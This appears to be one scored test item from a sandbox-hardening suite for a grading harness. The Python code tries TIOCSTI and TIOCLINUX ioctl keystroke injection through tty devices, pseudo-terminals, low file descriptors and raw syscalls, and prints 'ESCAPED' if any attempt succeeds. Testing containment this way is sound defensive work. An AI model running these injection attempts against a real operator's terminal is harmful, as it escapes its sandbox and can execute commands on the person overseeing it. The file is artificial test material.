# /// attack
# tries = "types into the terminal of whoever started the grading"
# held = "there is no terminal in reach"
# exit = ["completed"]
# points = 5
# says = ["held: /dev/tty"]
# ///
# %%
import fcntl
import glob

TIOCSTI, TIOCLINUX = 0x5412, 0x541C
for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/ptmx", *glob.glob("/dev/pts/*")):
    if path.endswith("ptmx"):
        continue
    attempt(path, lambda: fcntl.ioctl(os.open(path, os.O_RDWR), TIOCSTI, b"\n"))
for number in range(16):
    for request in (TIOCSTI, TIOCLINUX):
        try:
            fcntl.ioctl(number, request, b"\n")
            print("ESCAPED:", number)
        except OSError:
            pass
attempt("by number", lambda: system_call("ioctl", 0, TIOCSTI, b"\n\0"))
attempt("by number with high bits", lambda: system_call("ioctl", 0, TIOCSTI | 1 << 32, b"\n\0"))
